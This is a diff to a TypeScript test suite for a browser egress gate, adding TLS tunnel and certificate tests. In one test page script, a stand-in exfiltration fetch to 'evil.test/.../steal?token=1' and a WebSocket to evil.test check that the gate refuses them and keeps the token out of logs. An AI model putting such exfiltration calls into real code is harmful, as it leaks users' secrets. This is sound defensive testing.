@@ -4,11 +4,14 @@ import { BrowserHost } from '@pilothouse/surface-browser';
 import type { Refusal } from '@pilothouse/contract';
 import { createSocket, type Socket as Udp } from 'node:dgram';
 import { mkdtemp, rm } from 'node:fs/promises';
-import { createServer, type Server } from 'node:http';
+import { createServer, type RequestListener, type Server } from 'node:http';
+import { createServer as createTlsServer } from 'node:https';
 import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import type { TLSSocket } from 'node:tls';
 import { WebSocketServer } from 'ws';
+import { cert, key, trusting } from '../testing/tls.fixture.ts';
 
 const log = { debug: () => {}, info: () => {}, warn: () => {}, error: () => {} };
 const context = () => ({ signal: new AbortController().signal, deadline: performance.now() + 20_000, log });
@@ -21,23 +24,33 @@ const page = (script: string) => `<!doctype html><title>...</title><body><script
 
 let site: Server;
 let port: number;
+let secure: Server;
+let securePort: number;
 let udp: Udp;
 let packets = 0;
 let folder: string;
 let script = '';
 const asked: string[] = [];
+/** Names under which the site was asked for by TLS. */
+const named: unknown[] = [];
 beforeAll(async () => {
-  site = createServer(({ url = '', headers }, answer) => {
+  const answers: RequestListener = ({ url = '', headers }, answer) => {
     asked.push(`${headers.host}${url}`);
     answer.setHeader('access-control-allow-origin', '*');
     if (url.startsWith('/page')) answer.setHeader('content-type', 'text/html').end(page(script));
     else answer.end('there');
-  });
-  new WebSocketServer({ server: site }).on('connection', (socket) => {
-    socket.on('message', (data) => socket.send(`echo ${String(data)}`));
-  });
-  await new Promise<void>((resolve) => site.listen(0, '127.0.0.1', resolve));
+  };
+  site = createServer(answers);
+  secure = createTlsServer({ key, cert }, answers);
+  secure.on('secureConnection', (socket: TLSSocket) => named.push(socket.servername));
+  for (const server of [site, secure]) {
+    new WebSocketServer({ server }).on('connection', (socket) => {
+      socket.on('message', (data) => socket.send(`echo ${String(data)}`));
+    });
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  }
   port = (site.address() as AddressInfo).port;
+  securePort = (secure.address() as AddressInfo).port;
   udp = createSocket('udp4');
   udp.on('message', () => (packets += 1));
   await new Promise<void>((resolve) => udp.bind(0, '0.0.0.0', resolve));
@@ -45,6 +58,7 @@ beforeAll(async () => {
 });
 afterAll(async () => {
   site.close();
+  secure.close();
   udp.close();
   await rm(folder, { recursive: true, force: true });
 });
@@ -55,6 +69,7 @@ afterEach(async () => {
 });
 beforeEach(() => {
   asked.length = 0;
+  named.length = 0;
   packets = 0;
 });
 
@@ -65,9 +80,13 @@ interface Opened {
 }
 
 /** A surface behind a gate; names are all at this machine unless said otherwise. */
-async function open(rules: Partial<EgressRules>, resolve: Resolve = async () => ['127.0.0.1']): Promise<Opened> {
+async function open(
+  rules: Partial<EgressRules>,
+  resolve: Resolve = async () => ['127.0.0.1'],
+  args: string[] = [],
+): Promise<Opened> {
   const egress: EgressHouse = startEgress({ resolve });
-  const host = new BrowserHost({ egress });
+  const host = new BrowserHost({ egress, args });
   closing.push(
     () => egress.close(),
     () => host.close(),
@@ -95,9 +114,9 @@ const act = () => ({
 const go = (surface: Surface, url: string) => surface.act({ action: 'navigate', url }, act());
 
 /** Opens a page with a script, and what the script told. */
-async function told({ surface }: Opened, text: string, host = 'shop.test'): Promise<string> {
+async function told({ surface }: Opened, text: string, origin = `http://shop.test:${port}`): Promise<string> {
   script = text;
-  await go(surface, `http://${host}:${port}/page`);
+  await go(surface, `${origin}/page`);
   await surface.expect({ title: 'done: ' }, context());
   return (await surface.anchors(context())).title.slice('done: '.length);
 }
@@ -128,6 +147,61 @@ test('a page of an allowed host opens; frames, fetches and sockets elsewhere are
   expect(got).toBe('there,refused,echo hi,refused');
   expect(new Set(opened.refused.map(({ host, rule }) => `${host} ${rule}`))).toEqual(new Set(['evil.test project']));
   expect(asked.every((one) => one.startsWith('shop.test:'))).toBe(true);
+});
+
+describe('over TLS', () => {
+  /** Hosts whose address the gate asked for: those it was told to make a tunnel to, and lets through. */
+  const lookedUp = () => {
+    const hosts: string[] = [];
+    const resolve: Resolve = async (host) => {
+      hosts.push(host);
+      return ['127.0.0.1'];
+    };
+    return { hosts, resolve };
+  };
+
+  test('a page comes through a tunnel of the gate, which looks at the host of each', async () => {
+    const { hosts, resolve } = lookedUp();
+    const opened = await open(list('shop.test'), resolve, [trusting()]);
+    const got = await told(
+      opened,
+      `const of = (url) => fetch(url).then((r) => r.text(), () => 'refused');
+       const socket = (url) => new Promise((resolve) => {
+         const one = new WebSocket(url);
+         one.onopen = () => one.send('hi');
+         one.onmessage = ({ data }) => resolve(data);
+         one.onerror = () => resolve('refused');
+       });
+       told((await Promise.all([
+         of('/data'), socket('wss://shop.test:${securePort}/'),
+         of('https://evil.test:${securePort}/steal?token=1'), socket('wss://evil.test:${securePort}/'),
+       ])).join());`,
+      `https://shop.test:${securePort}`,
+    );
+    expect(got).toBe('there,echo hi,refused,refused');
+    expect(asked).toContain(`shop.test:${securePort}/data`);
+    expect(asked.every((one) => one.startsWith(`shop.test:${securePort}/`))).toBe(true);
+    expect(new Set(named)).toEqual(new Set(['shop.test']));
+    expect(new Set(hosts)).toEqual(new Set(['shop.test']));
+    // Of what is inside a tunnel the gate knows nothing: where it would have led is all that is told.
+    const refusals = opened.refused.map(({ host, port: at, rule }) => `${host}:${at} ${rule}`);
+    expect(new Set(refusals)).toEqual(new Set([`evil.test:${securePort} project`]));
+    expect(JSON.stringify(opened.refused)).not.toContain('token');
+  });
+
+  test('the certificate is for the browser to judge: one that nobody trusts opens no page', async () => {
+    const { hosts, resolve } = lookedUp();
+    const { surface, refused } = await open(list('shop.test'), resolve);
+    const going = go(surface, `https://shop.test:${securePort}/page`);
+    await expect(going).rejects.toMatchObject({
+      code: 'NAVIGATION_FAILED',
+      message: expect.stringContaining('ERR_CERT_AUTHORITY_INVALID'),
+    });
+    expect(new Set(hosts)).toEqual(new Set(['shop.test']));
+    expect(asked).toEqual([]);
+    // Chromium looks whether a portal for logging in is in between, by the same way as the page.
+    expect(refused.filter(({ host }) => host !== 'connectivitycheck.gstatic.com')).toEqual([]);
+  });
 });
 
 test('the browser asks nobody what the fields of a form are', async () => {
@@ -180,7 +254,7 @@ test('a page whose name is bound anew to this machine reaches nothing there', as
       `const tries = [];
        for (let i = 0; i < 5; i += 1) tries.push(await fetch('/inside?' + i).then((r) => r.text(), () => 'refused'));
        told(String(tries.some((text) => text === 'there')));`,
-      'sub.rebind.test',
+      `http://sub.rebind.test:${port}`,
     ),
   ).toBe('false');
   expect(asked).toEqual([]);
@@ -203,7 +277,7 @@ test('no packet leaves past the proxy: neither WebRTC nor QUIC', async () => {
      let quic = 'none';
      if (globalThis.WebTransport) quic = await new WebTransport('https://127.0.0.1:${stun}/').ready.then(() => 'open', () => 'refused');
      told([found.filter((text) => / udp /i.test(text)).length, quic].join());`,
-    'localhost',
+    `http://localhost:${port}`,
   );
   expect(got).toMatch(/^0,(refused|none)$/);
   expect(packets).toBe(0);
